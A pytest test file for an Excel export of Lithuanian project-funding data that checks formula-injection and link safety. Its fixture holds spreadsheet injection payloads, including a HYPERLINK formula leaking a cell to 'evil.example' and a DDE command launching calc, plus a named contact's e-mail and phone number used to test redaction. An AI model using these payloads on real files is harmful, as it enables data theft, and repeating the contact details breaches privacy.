"""The Excel brief: sheets, values, formats, tables, charts, safety, and a second client.

The workbook is re-opened with openpyxl (values, number formats, tables, frozen panes, print
set-up), its zip is read for the chart XML (openpyxl does not load charts), and LibreOffice
converts it to PDF and CSV to show that another program opens it and sees the same texts.
The tables are a small fixture that follows cwlib.schema exactly, with hostile source texts
and a contact person; when data/clean exists, the real tables are briefed too.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import html
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path
from xml.etree import ElementTree as ET

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cwlib import paths, schema
from cwlib.export import i18n, messages
from cwlib.export.brief import (
    BriefError,
    add_brief_arguments,
    brief_findings,
    build_brief,
    describe_workbook,
    main_brief,
    overview_frame,
    reports_dir,
    run_brief,
    safe_link,
    sheet_columns,
    sheet_names,
    write_brief,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+370 ...",
    "-5",
    "@SUM(1)",
    "=1+1",
    "\t=cmd|' /C calc'!A0",
    "\r=2+2",
    "#REF!",
    "＝1+1",
)
CONTACT_NAME = "Aušra Dockevičiūtė"
CONTACT_EMAIL = "rietavomuc@gmail.com"
CONTACT_PHONE = "+370 67382349"
CONTACT_QUOTE = f"Projekto vadovė {CONTACT_NAME}, {CONTACT_EMAIL}, {CONTACT_PHONE}."
PERSONAL = (CONTACT_NAME, "Dockevičiūt", CONTACT_EMAIL, CONTACT_PHONE, "67382349")


# --- Fixture ------------------------------------------------------------------------------------


def _typed(name: str, rows: list[dict[str, object]]) -> pd.DataFrame:
    """A frame with exactly the schema's columns and the dtypes cwlib.load gives."""
    table = schema.TABLES[name]
    frame = pd.DataFrame(rows, columns=table.columns)
    for f in table.fields:
        column = frame[f.name]
        if f.categories:
            frame[f.name] = pd.Categorical(column, categories=list(f.categories))
        elif f.type == "number":
            frame[f.name] = pd.to_numeric(column).astype("float64")
        elif f.type == "integer":
            frame[f.name] = pd.to_numeric(column).astype("Int64")
        elif f.type == "date":
            frame[f.name] = pd.to_datetime(column, format="%Y-%m-%d")
        else:
            frame[f.name] = column.astype("string")
    return frame


def make_tables() -> dict[str, pd.DataFrame]:
    """Four projects: a stated-euro one, a litas one, an EU+national one, a hostile one."""
    s1, s2, s3, s4 = "003_aa.txt", "002_bb.txt", "004_cc.txt", "009_evil.txt"
    q_total = "Bendras projekto biudžetas – 264,145.00 EUR"
    q_eu = "bendrasis Europos regioninės plėtros fondo finansavimas (ERDF) – 217,833.25 EUR"
    projects = [
        {
            "project_id": "sb-creative-clusters",
            "title": "Pietų Baltijos kūrybinis klasteris",
            "title_en": "SB Creative Clusters",
            "programme": "Interreg South Baltic",
            "period": "2014-2020",
            "period_basis": "stated",
            "fund": "ERDF",
            "project_number": "STHB.05.01.00-32-0142/18",
            "start_date": "2020-01-01",
            "end_date": "2021-12-31",
            "duration_months": 24,
            "url": None,
            "sources": s1,
        },
        {
            "project_id": "urban-creative-poles",
            "title": "URBAN CREATIVE POLES (Urbanistinės traukos erdvės)",
            "title_en": "URBAN CREATIVE POLES",
            "programme": "Interreg Baltic Sea Region",
            "period": "2007-2013",
            "period_basis": "from_dates",
            "fund": None,
            "project_number": "3025",
            "start_date": "2010-10",
            "end_date": None,
            "duration_months": 36,
            "url": None,
            "sources": s2,
        },
        {
            "project_id": "visaginas-cluster",
            "title": "Visagino inovacijų klasterio įkūrimas",
            "title_en": None,
            "programme": "EU Structural Funds Operational Programme (Lithuania)",
            "period": "2014-2020",
            "period_basis": "stated",
            "fund": "ERDF",
            "project_number": None,
            "start_date": None,
            "end_date": "2023-04-30",
            "duration_months": None,
            "url": "https://visaginas.lt/kūrybinės-industrijos",
            "sources": s3,
        },
        {
            "project_id": "hostile",
            "title": HOSTILE[0],
            "title_en": "@SUM(1)",
            "programme": "-5",
            "period": None,
            "period_basis": None,
            "fund": None,
            "project_number": "+370 ...",
            "start_date": "--12-03",
            "end_date": None,
            "duration_months": None,
            "url": "javascript:alert(1)",
            "sources": s4,
        },
    ]
    budgets = [
        # project scope, euro stated
        dict(project_id="sb-creative-clusters", scope="project", party=None, item="total",
             amount=264145.0, currency="EUR", qualifier="exact", amount_eur=264145.0, eur_basis="stated",
             share_pct=None, share_basis=None, source=s1, quote=q_total),
        dict(project_id="sb-creative-clusters", scope="project", party=None, item="eu",
             amount=217833.25, currency="EUR", qualifier="exact", amount_eur=217833.25, eur_basis="stated",
             share_pct=82.4673, share_basis="computed", source=s1, quote=q_eu),
        # litas: project total with euro stated beside it, partner sums converted or stated
        dict(project_id="urban-creative-poles", scope="project", party=None, item="total",
             amount=8263543.0, currency="LTL", qualifier="exact", amount_eur=2393287.5, eur_basis="stated",
             share_pct=None, share_basis=None, source=s2,
             quote="Bendra projekto vertė (3 metams) 8.263.543,00 Lt (2.393.287,50 Eur)"),
        dict(project_id="urban-creative-poles", scope="partner",
             party="VšĮ Klaipėdos ekonominės plėtros agentūra", item="total",
             amount=1107105.0, currency="LTL", qualifier="exact", amount_eur=1107105.0 / schema.LTL_PER_EUR,
             eur_basis="converted", share_pct=None, share_basis=None, source=s2,
             quote="VšĮ Klaipėdos ekonominės plėtros agentūros biudžetas 1.107.105,00 Lt"),
        dict(project_id="urban-creative-poles", scope="partner",
             party="VšĮ Klaipėdos ekonominės plėtros agentūra", item="eu",
             amount=941039.0, currency="LTL", qualifier="exact", amount_eur=272543.73, eur_basis="stated",
             share_pct=85.0, share_basis="stated", source=s2,
             quote="Europos finansuojama dalis 85% 941.039,00 Lt (272.543,73 Eur)"),
        # EU and national as one sum, no total: nothing may be split or guessed
        dict(project_id="visaginas-cluster", scope="project", party=None, item="eu_national",
             amount=191920.84, currency="EUR", qualifier="exact", amount_eur=191920.84, eur_basis="stated",
             share_pct=None, share_basis=None, source=s3,
             quote="Europos regioninės plėtros fondas ir LR valstybės biudžetas finansavo "
                   "191 920,84 Eur"),
        dict(project_id="visaginas-cluster", scope="project", party=None, item="own",
             amount=43389.55, currency="EUR", qualifier="exact", amount_eur=43389.55, eur_basis="stated",
             share_pct=None, share_basis=None, source=s3,
             quote="Visagino savivaldybės administracijos įnašas į projektą – 43 389,55 Eur"),
    ] + [
        dict(project_id="hostile", scope="project", party=text, item="other", amount=-5.0,
             currency="EUR", qualifier="exact", amount_eur=-5.0, eur_basis="stated", share_pct=None,
             share_basis=None, source=s4, quote=text)
        for text in HOSTILE
    ]  # fmt: skip
    partners = [
        dict(project_id="sb-creative-clusters", name="„Media Dizajn“", role="partner",
             org_type="company", city=None, country="PL", lat=52.0, lon=19.0,
             geo_precision="country", source=s1, quote="„Media Dizajn“ | PL"),
        dict(project_id="sb-creative-clusters", name="Kreativum mokslo centras", role="partner",
             org_type="cultural", city="Karlshamn", country="SE", lat=56.17, lon=14.86,
             geo_precision="city", source=s1, quote="Kreativum mokslo centras | SE"),
        dict(project_id="sb-creative-clusters",
             name="Asociacija Rietavo moterų užimtumo centras", role="lead",
             org_type="association", city="Rietavas", country="LT", lat=55.72, lon=21.93,
             geo_precision="city", source=s1,
             quote="Asociacija Rietavo moterų užimtumo centras | LT"),
        dict(project_id="urban-creative-poles", name="Klaipėda", role="partner",
             org_type="municipality", city="Klaipėda", country="LT", lat=55.71, lon=21.14,
             geo_precision="city", source=s2, quote="Klaipėda / LT"),
        dict(project_id="hostile", name="=2+3", role="partner", org_type="other",
             city="@SUM(1)", country=None, lat=None, lon=None, geo_precision=None,
             source=s4, quote="-5"),
    ]  # fmt: skip
    events = [
        dict(project_id="sb-creative-clusters", event="start", date="2020-01-01",
             precision="day", earliest="2020-01-01", latest="2020-01-01", source=s1,
             quote="nuo 2020 m. sausio 01 d."),
        dict(project_id="urban-creative-poles", event="approved", date="2010-09-17",
             precision="day", earliest="2010-09-17", latest="2010-09-17", source=s2,
             quote="projektas patvirtintas 17/09/2010"),
        dict(project_id="hostile", event="presented", date="--12-03", precision="no_year",
             earliest=None, latest=None, source=s4, quote="@SUM(1)"),
    ]  # fmt: skip
    results = [
        dict(project_id="urban-creative-poles", count=750.0, indicator="valandų konsultacijoms",
             qualifier="about", source=s2, quote="Apie 750 valandų"),
        dict(project_id="hostile", count=5.0, indicator="+SUM(1)", qualifier="exact",
             source=s4, quote="=1+1"),
    ]  # fmt: skip
    findings = [
        dict(project_id="visaginas-cluster", check="no_total", severity="info",
             message="no project total stated", difference=None, source=s3,
             quote="191 920,84 Eur"),
        dict(project_id="hostile", check="sum_mismatch", severity="error",
             message="=SUM(A1:A9)", difference=-5.0, source=s4, quote="-5"),
        # personal data inside another table's quote must be redacted too
        dict(project_id="sb-creative-clusters", check="contact", severity="warning",
             message="contact line", difference=None, source=s1, quote=CONTACT_QUOTE),
    ]  # fmt: skip
    facts = [
        dict(project_id="sb-creative-clusters", field="programme",
             value="Interreg South Baltic", source=s1,
             quote="Interreg V-A Pietų Baltijos bendradarbiavimo per sieną programa 2014-2020"),
        dict(project_id="sb-creative-clusters", field="start_date", value="2020-01-01",
             source=s1, quote="nuo 2020 m. sausio 01 d."),
        dict(project_id="hostile", field="title", value=HOSTILE[0], source=s4,
             quote=HOSTILE[0]),
    ]  # fmt: skip
    contacts = [
        dict(project_id="sb-creative-clusters", name=CONTACT_NAME, position="Projekto vadovė",
             email=CONTACT_EMAIL, phone=CONTACT_PHONE, source=s1, quote=CONTACT_QUOTE),
    ]  # fmt: skip
    raw = {
        "projects": projects,
        "project_facts": facts,
        "budgets": budgets,
        "partners": partners,
        "events": events,
        "results": results,
        "findings": findings,
        "contacts": contacts,
    }
    return {name: _typed(name, rows) for name, rows in raw.items()}


@pytest.fixture(scope="module")
def tables() -> dict[str, pd.DataFrame]:
    return make_tables()


@pytest.fixture(scope="module")
def briefs(tmp_path_factory: pytest.TempPathFactory, tables) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("briefs")
    return {
        "en": write_brief(tables, out / "brief_en.xlsx", lang="en"),
        "lt": write_brief(tables, out / "brief_lt.xlsx", lang="lt"),
        "contacts": write_brief(tables, out / "brief_c.xlsx", include_contacts=True),
    }


def _sheet_rows(ws) -> list[dict[str, object]]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def _all_text(path: Path) -> str:
    """Every XML part of the workbook as text (cells, comments, properties, charts).

    Character references are decoded: openpyxl writes ė as &#279; when lxml is installed.
    """
    with zipfile.ZipFile(path) as z:
        return html.unescape(
            "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
        )


# --- Structure ----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_sheets_in_order_about_first(briefs, lang) -> None:
    wb = load_workbook(briefs[lang])
    assert wb.sheetnames == sheet_names(lang)
    assert wb.sheetnames[0] == i18n.sheet_name("about", lang)
    assert wb.sheetnames[1] == i18n.sheet_name("overview", lang)
    assert i18n.sheet_name("contacts", lang) not in wb.sheetnames


def test_lithuanian_names_keep_diacritics(briefs) -> None:
    wb = load_workbook(briefs["lt"])
    assert {"Apžvalga", "Biudžetai", "Įvykiai", "Šaltiniai"} <= set(wb.sheetnames)
    ws = wb["Biudžetai"]
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["Projektas", "Lygmuo", "Partneris", "Straipsnis"]
    values = {r["Straipsnis"] for r in _sheet_rows(ws)}
    assert {"iš viso", "ES lėšos", "ES ir valstybės lėšos", "nuosavas įnašas"} <= values
    scopes = {r["Lygmuo"] for r in _sheet_rows(ws)}
    assert scopes == {"projektas", "partneris"}
    assert wb["Apie"]["A1"].value == i18n.label("about.title", "lt")


def test_about_sheet(briefs, tables) -> None:
    ws = load_workbook(briefs["en"])["About"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    text = "\n".join(str(c.value) for c in cells)
    from cwlib import __version__

    assert __version__ in text
    for pid in tables["projects"]["project_id"]:
        assert pid in text
    assert "3.4528 LTL per 1 EUR" in text  # written in the brief's language, as text
    assert "Partner and project sums are never mixed" in text
    assert "Converted litas" in text and "Converted rows in this brief: 1" in text
    assert "Unknown dates" in text
    assert re.search(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} UTC", text)
    # in-memory tables: no input files to hash, but the sheet says so
    assert i18n.label("about.in_memory", "en") in text


def test_every_label_in_both_languages() -> None:
    for entries in (i18n.LABELS, i18n.HEADERS, i18n.SHEET_ROWS, i18n.CAVEATS):
        for key, entry in entries.items():
            assert set(entry) == set(i18n.LANGS), key
            assert all(v.strip() for v in entry.values()), key
    for sheet in i18n.SHEET_ROWS:
        for lang in i18n.LANGS:
            name = i18n.sheet_name(sheet, lang)
            assert len(name) <= 31 and not set(name) & set("[]:*?/\\")


def test_every_schema_category_translated() -> None:
    for table in schema.TABLES.values():
        for f in table.fields:
            if not f.categories:
                continue
            assert f.name in i18n.CATEGORIES, f"{table.name}.{f.name}"
            for value in f.categories:
                for lang in i18n.LANGS:
                    assert isinstance(i18n.category(f.name, value, lang), str)
                    assert value in i18n.CATEGORIES[f.name], f"{f.name}={value}"


def test_every_shown_column_has_header_and_meaning() -> None:
    for _sheet, (table, columns) in sheet_columns().items():
        for lang in i18n.LANGS:  # Excel table column names must be unique, ignoring case
            headers = [i18n.header(table, c.key, lang).casefold() for c in columns]
            assert len(set(headers)) == len(headers), (table, lang)
        for col in columns:
            for lang in i18n.LANGS:
                assert i18n.header(table, col.key, lang)
                assert i18n.description(table, col.key, lang), f"{lang}: {table}.{col.key}"


INTERNAL = re.compile(r"\b[a-z]+_[a-z0-9_]+\b")
"""A snake_case word: an internal column name or code (amount_eur, eu_national, no_year)."""


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_about_explains_columns_without_internal_names(briefs, lang) -> None:
    ws = load_workbook(briefs[lang])[i18n.sheet_name("about", lang)]
    texts = [str(c.value) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    source_names = {str(v) for v in make_tables()["budgets"]["source"]}
    internal = [t for t in texts if INTERNAL.search(t) and t not in source_names]
    assert not internal, internal
    described = [
        i18n.description(t, c.key, lang)
        for sheet, (t, cols) in sheet_columns().items()
        if sheet != "contacts"
        for c in cols
    ]
    assert all(d in texts for d in described)
    if lang == "lt":  # numbers in the texts in Lithuanian: 3,4528, not 3.4528
        joined = "\n".join(texts)
        assert "3,4528" in joined and "3.4528" not in joined


def test_unknown_category_value_passes_through() -> None:
    assert i18n.category("item", "grant", "lt") == "grant"


# --- Overview -----------------------------------------------------------------------------------


def test_overview_values(briefs) -> None:
    ws = load_workbook(briefs["en"])["Overview"]
    rows = {r["Project"]: r for r in _sheet_rows(ws)}
    assert list(rows) == [
        "sb-creative-clusters",
        "urban-creative-poles",
        "visaginas-cluster",
        "hostile",
    ]
    details = {r["Project"]: r for r in _sheet_rows(load_workbook(briefs["en"])["Project details"])}
    assert list(details) == list(rows)
    sb, sbd = rows["sb-creative-clusters"], details["sb-creative-clusters"]
    assert sb["Total (EUR)"] == 264145.0
    assert sbd["EU funds (EUR)"] == 217833.25
    assert sb["EU share"] == pytest.approx(0.824673)
    assert sb["Partners"] == 3 and sbd["Countries"] == 3
    assert sb["Findings"] == 1 and sb["Of which errors"] == 0
    assert sb["Start"] == dt.datetime(2020, 1, 1) and sb["End"] == dt.datetime(2021, 12, 31)
    assert sb["Period"] == "2014–2020" and sbd["Duration (months)"] == 24
    ucp = rows["urban-creative-poles"]
    # the project total is the stated euro figure; partner sums never reach the overview
    assert ucp["Total (EUR)"] == 2393287.5
    assert details["urban-creative-poles"]["EU funds (EUR)"] is None and ucp["EU share"] is None
    assert ucp["Start"] == "2010-10"  # a month stays text, at the precision stated
    vis, visd = rows["visaginas-cluster"], details["visaginas-cluster"]
    assert vis["Total (EUR)"] is None
    assert visd["EU funds (EUR)"] is None and vis["EU share"] is None
    assert visd["EU + national (EUR)"] == 191920.84
    assert visd["EU + national share"] is None  # no total: no share is guessed
    assert rows["hostile"]["Start"] == "--12-03"
    assert rows["hostile"]["Findings"] == 1 and rows["hostile"]["Of which errors"] == 1


def test_overview_frame_matches_sheet(tables) -> None:
    frame = overview_frame(tables, ["visaginas-cluster", "sb-creative-clusters"])
    assert frame["project_id"].tolist() == ["visaginas-cluster", "sb-creative-clusters"]
    assert frame.loc[1, "eu_share_pct"] == pytest.approx(82.4673)
    assert pd.isna(frame.loc[0, "eu_share_pct"])


def test_overview_shares_computed_when_not_stated(tables) -> None:
    t = {k: v.copy() for k, v in tables.items()}
    t["budgets"]["share_pct"] = float("nan")
    frame = overview_frame(t, ["sb-creative-clusters"])
    assert frame.loc[0, "eu_share_pct"] == pytest.approx(217833.25 / 264145 * 100)


def test_overview_comments_quote_the_source(briefs) -> None:
    ws = load_workbook(briefs["en"])["Overview"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(2, header.index("Total (EUR)") + 1)
    assert cell.comment is not None
    assert "003_aa.txt" in cell.comment.text
    assert "Bendras projekto biudžetas – 264,145.00 EUR" in cell.comment.text


# --- Formats, tables, layout --------------------------------------------------------------------


def test_number_formats(briefs) -> None:
    wb = load_workbook(briefs["en"])
    budgets = wb["Budgets"]
    header = [c.value for c in budgets[1]]
    eur = budgets.cell(2, header.index("Amount (EUR)") + 1)
    assert eur.value == 264145.0 and "#,##0.00" in eur.number_format
    share = budgets.cell(3, header.index("Share") + 1)
    assert share.value == pytest.approx(0.824673) and share.number_format.endswith("%")
    events = wb["Events"]
    header = [c.value for c in events[1]]
    earliest = events.cell(2, header.index("Earliest") + 1)
    assert earliest.is_date and earliest.value == dt.datetime(2020, 1, 1)
    assert "yy" in earliest.number_format
    no_year = events.cell(4, header.index("Earliest") + 1)
    assert no_year.value is None  # a day without a year gets no invented date
    ov = wb["Overview"]
    header = [c.value for c in ov[1]]
    assert ov.cell(2, header.index("EU share") + 1).number_format.endswith("%")
    assert "#,##0.00" in ov.cell(2, header.index("Total (EUR)") + 1).number_format


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_tables_frozen_headers_widths_print_setup(briefs, lang) -> None:
    wb = load_workbook(briefs[lang])
    for sheet in sheet_columns():
        if sheet == "contacts":
            continue
        ws = wb[i18n.sheet_name(sheet, lang)]
        assert len(ws.tables) == 1, sheet
        table = next(iter(ws.tables.values()))
        assert table.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert table.tableStyleInfo.showRowStripes
        assert table.autoFilter is not None
        assert [c.name for c in table.tableColumns] == [c.value for c in ws[1]]
        assert ws.freeze_panes in ("A2", "B2")
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$1:$1"
        widths = [ws.column_dimensions[c.column_letter].width for c in ws[1]]
        assert all(6 <= w <= 80 for w in widths), (sheet, widths)
        quote = [c for c in ws[1] if c.value == i18n.header("budgets", "quote", lang)]
        if quote:  # long texts wrap instead of running off the page
            assert ws.cell(2, quote[0].column).alignment.wrap_text


def test_empty_sheet_has_note_not_broken_table(tables, tmp_path) -> None:
    path = write_brief(tables, tmp_path / "b.xlsx", projects=["visaginas-cluster"])
    wb = load_workbook(path)
    ws = wb["Events"]
    assert not ws.tables
    assert ws["A2"].value == i18n.label("about.no_rows", "en")


# --- Charts -------------------------------------------------------------------------------------


C = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"


def _charts(path: Path) -> list[ET.Element]:
    with zipfile.ZipFile(path) as z:
        names = sorted(n for n in z.namelist() if re.match(r"xl/charts/chart\d+\.xml$", n))
        return [ET.fromstring(z.read(n)) for n in names]


def _series(chart: ET.Element) -> list[dict[str, str]]:
    out = []
    for ser in chart.iter(f"{C}ser"):
        out.append(
            {
                "title": ser.find(f"{C}tx/{C}strRef/{C}f").text,
                "cat": ser.find(f"{C}cat/{C}strRef/{C}f").text,
                "val": ser.find(f"{C}val/{C}numRef/{C}f").text,
            }
        )
    return out


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_native_charts_read_the_table_beside_them(briefs, lang) -> None:
    charts = _charts(briefs[lang])
    assert len(charts) == 3
    sheet = f"'{i18n.sheet_name('charts', lang)}'"
    wb = load_workbook(briefs[lang])
    ws = wb[i18n.sheet_name("charts", lang)]
    for chart in charts:
        assert chart.find(f".//{C}barChart") is not None
        for ser in _series(chart):  # series and categories are ranges of the Charts sheet
            assert ser["cat"].startswith(f"{sheet}!$A$") and ser["val"].startswith(f"{sheet}!$")
            title_cell = ser["title"].split("!")[1].replace("$", "")
            assert ws[title_cell].value == i18n.header(
                "overview", {v: k for k, v in _headers(lang).items()}[ws[title_cell].value], lang
            )
    budget = _series(charts[0])
    first, last = (int(n) for n in re.findall(r"\$(\d+)", budget[0]["cat"]))
    labels = [ws.cell(r, 1).value for r in range(first, last + 1)]
    totals = [ws.cell(r, 2).value for r in range(first, last + 1)]
    # the budget chart: projects with a sum, the largest total first
    assert labels[:3] == ["urban-creative-poles", "sb-creative-clusters", "visaginas-cluster"]
    assert totals[:2] == [2393287.5, 264145.0]
    titles = ["".join(t.text for t in ch.find(f"{C}chart/{C}title").iter(f"{A}t")) for ch in charts]
    assert titles == [
        i18n.label(k, lang) for k in ("chart.budget", "chart.share", "chart.partners")
    ]
    for chart in charts:  # axes are shown (openpyxl 3.1 hides them unless told), text sized
        assert [d.get("val") for d in chart.iter(f"{C}delete")] == ["0", "0"]
        sizes = [int(p.get("sz")) for p in chart.iter(f"{A}defRPr") if p.get("sz")]
        assert sizes and min(sizes) >= 900
    fmt = charts[1].find(f".//{C}valAx/{C}numFmt").get("formatCode")
    assert fmt.endswith("%")


def _headers(lang: str) -> dict[str, str]:
    keys = ["total_eur", "eu_eur", "eu_national_eur", "eu_share_pct", "eu_national_share_pct"]
    return {k: i18n.header("overview", k, lang) for k in [*keys, "partners", "countries"]}


# --- Safety: formula injection ------------------------------------------------------------------


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_no_source_text_becomes_a_formula(briefs, lang) -> None:
    wb = load_workbook(briefs[lang])
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\n", "＝")) or (
                        cell.value == "#REF!"
                    ):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                        seen.add(cell.value)
    # every hostile text arrives intact, as text
    # every hostile text arrives intact, as text (a carriage return is a line feed in XML)
    assert {h.replace("\r", "\n") for h in HOSTILE} <= seen
    with zipfile.ZipFile(briefs[lang]) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(name).decode("utf-8"), name


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_web_addresses_are_links_and_only_web_addresses(briefs, lang) -> None:
    ws = load_workbook(briefs[lang])[i18n.sheet_name("details", lang)]
    header = [c.value for c in ws[1]]
    column = header.index(i18n.header("details", "url", lang)) + 1
    cells = {ws.cell(r, 1).value: ws.cell(r, column) for r in range(2, ws.max_row + 1)}
    link = cells["visaginas-cluster"]
    assert link.value == "https://visaginas.lt/kūrybinės-industrijos"  # shown as written
    assert link.hyperlink.target == "https://visaginas.lt/k%C5%ABrybin%C4%97s-industrijos"
    assert cells["hostile"].value == "javascript:alert(1)" and cells["hostile"].hyperlink is None
    with zipfile.ZipFile(briefs[lang]) as z:
        assert not [n for n in z.namelist() if "externalLink" in n]
        for name in z.namelist():
            if name.endswith(".rels"):
                assert "javascript:" not in z.read(name).decode("utf-8")


@pytest.mark.parametrize(
    "text",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "http://a b",
        'https://x/"onclick',
        "ftp://x",
        "http://" + "a" * 2001,
    ],
)
def test_only_plain_web_addresses_are_linked(text) -> None:
    assert safe_link(text) is None


# --- Safety: personal data ----------------------------------------------------------------------


@pytest.mark.parametrize("lang", i18n.LANGS)
def test_no_personal_data_by_default(briefs, lang) -> None:
    text = _all_text(briefs[lang])
    for item in PERSONAL:
        assert item not in text, item
    assert i18n.label("redacted.email", lang) in text
    assert i18n.label("redacted.name", lang) in text


def test_contacts_included_on_request(briefs) -> None:
    wb = load_workbook(briefs["contacts"])
    assert wb.sheetnames == sheet_names("en", include_contacts=True)
    rows = _sheet_rows(wb["Contacts"])
    assert rows[0]["Name"] == CONTACT_NAME and rows[0]["E-mail"] == CONTACT_EMAIL
    assert CONTACT_QUOTE in _all_text(briefs["contacts"])
    assert "INCLUDED" in _all_text(briefs["contacts"])


# --- Errors and atomic writing ------------------------------------------------------------------


def test_unknown_project_lists_valid_ids(tables, tmp_path) -> None:
    with pytest.raises(BriefError) as err:
        write_brief(tables, tmp_path / "b.xlsx", projects=["nope"])
    message = str(err.value)
    assert "nope" in message
    for pid in tables["projects"]["project_id"]:
        assert pid in message
    assert not (tmp_path / "b.xlsx").exists()


def test_unknown_language_lists_valid_ones(tables, tmp_path) -> None:
    with pytest.raises(BriefError, match=r"unknown language 'fr'; valid languages: en, lt"):
        write_brief(tables, tmp_path / "b.xlsx", lang="fr")


@pytest.mark.parametrize("name", ["brief.csv", "folder"])
def test_unwritable_paths_are_clear_errors(tables, tmp_path, name) -> None:
    (tmp_path / "folder").mkdir()
    with pytest.raises(BriefError, match="cannot write"):
        write_brief(tables, tmp_path / name, lang="en")


def test_parent_that_is_a_file_is_a_clear_error(tables, tmp_path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(BriefError, match=r"cannot write .*file\W+is a file, not a folder"):
        write_brief(tables, tmp_path / "file" / "b.xlsx")


def test_missing_folders_are_created(tables, tmp_path) -> None:
    path = write_brief(tables, tmp_path / "new" / "deeper" / "b.xlsx")
    assert path.is_file()


def test_existing_file_replaced_only_by_a_complete_one(tables, tmp_path, monkeypatch) -> None:
    path = tmp_path / "b.xlsx"
    path.write_bytes(b"old brief")
    import openpyxl

    def broken_save(self, filename):
        filename.write(b"half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken_save)
    with pytest.raises(BriefError, match="No space left"):
        write_brief(tables, path)
    assert path.read_bytes() == b"old brief"
    assert [p.name for p in tmp_path.iterdir()] == ["b.xlsx"]  # no temp file left behind
    monkeypatch.undo()
    write_brief(tables, path)
    assert zipfile.is_zipfile(path)
    assert [p.name for p in tmp_path.iterdir()] == ["b.xlsx"]


def test_a_single_id_as_a_string(tables) -> None:
    assert overview_frame(tables, "hostile")["project_id"].tolist() == ["hostile"]


def test_selection_and_order(tables, tmp_path) -> None:
    path = write_brief(
        tables, tmp_path / "b.xlsx", ["visaginas-cluster", "sb-creative-clusters"], "lt"
    )
    wb = load_workbook(path)
    ids = [r["Projektas"] for r in _sheet_rows(wb["Apžvalga"])]
    assert ids == ["visaginas-cluster", "sb-creative-clusters"]
    budget_ids = {r["Projektas"] for r in _sheet_rows(wb["Biudžetai"])}
    assert budget_ids == {"visaginas-cluster", "sb-creative-clusters"}
    assert len(_charts(path)) == 3


# --- From files, and the command ----------------------------------------------------------------


RAW_RECORD = {
    "003_aa.txt": ("a" * 64, "https://www.rietavas.lt/projektai/sb-creative-clusters"),
    "002_bb.txt": ("b" * 64, None),
}
"""The build's record of two of the fixture's source texts (the other two are not recorded)."""


@pytest.fixture()
def data_dir(tmp_path, tables) -> Path:
    """The fixture written as clean CSV tables with a datapackage.json that records the
    sources as the build does; a data/raw beside it that must not be read."""
    clean = tmp_path / "data" / "clean"
    clean.mkdir(parents=True)
    for name, frame in tables.items():
        out = frame.copy()
        for column in out.columns:
            if pd.api.types.is_datetime64_any_dtype(out[column]):
                out[column] = out[column].dt.strftime("%Y-%m-%d")
        out.to_csv(clean / schema.TABLES[name].filename, index=False, quoting=csv.QUOTE_ALL)
    record = schema.datapackage()
    record["sources"] = [
        {
            "title": name,
            "path": f"data/raw/{name}",
            "sha256": digest,
            **({"url": url} if url else {}),
        }
        for name, (digest, url) in RAW_RECORD.items()
    ] + [{"title": "GeoNames (CC BY 4.0)", "path": "https://www.geonames.org/"}]
    record["cwlib"] = {"version": "9.9.9", "python": "3.11", "packages": {"pandas": "2.2.2"}}
    (clean / "datapackage.json").write_text(json.dumps(record), encoding="utf-8")
    raw = tmp_path / "data" / "raw"
    raw.mkdir()
    (raw / "003_aa.txt").write_text(CONTACT_QUOTE, encoding="utf-8")
    return clean


def test_build_brief_lists_the_recorded_sources(data_dir, tmp_path) -> None:
    path = build_brief(data_dir, tmp_path / "out.xlsx", lang="en")
    ws = load_workbook(path)["About"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    import hashlib

    digest = hashlib.sha256((data_dir / "budgets.csv").read_bytes()).hexdigest()
    assert ws.cell(cells["budgets.csv"].row, 2).value == digest
    # source texts: the record's hash and web address (a link), never a file beside the tables
    row = cells["003_aa.txt"].row
    assert ws.cell(row, 2).value == "a" * 64
    assert ws.cell(row, 3).hyperlink.target == RAW_RECORD["003_aa.txt"][1]
    assert ws.cell(cells["002_bb.txt"].row, 3).value is None
    assert ws.cell(cells["004_cc.txt"].row, 2).value == i18n.label("about.not_recorded", "en")
    assert "GeoNames (CC BY 4.0)" in cells
    assert "cwlib 9.9.9, Python 3.11; pandas 2.2.2" in cells
    assert ws.column_dimensions["A"].width >= len("003_aa.txt") + 2


def test_build_brief_without_datapackage_says_so(data_dir, tmp_path) -> None:
    (data_dir / "datapackage.json").unlink()
    warnings: list[str] = []
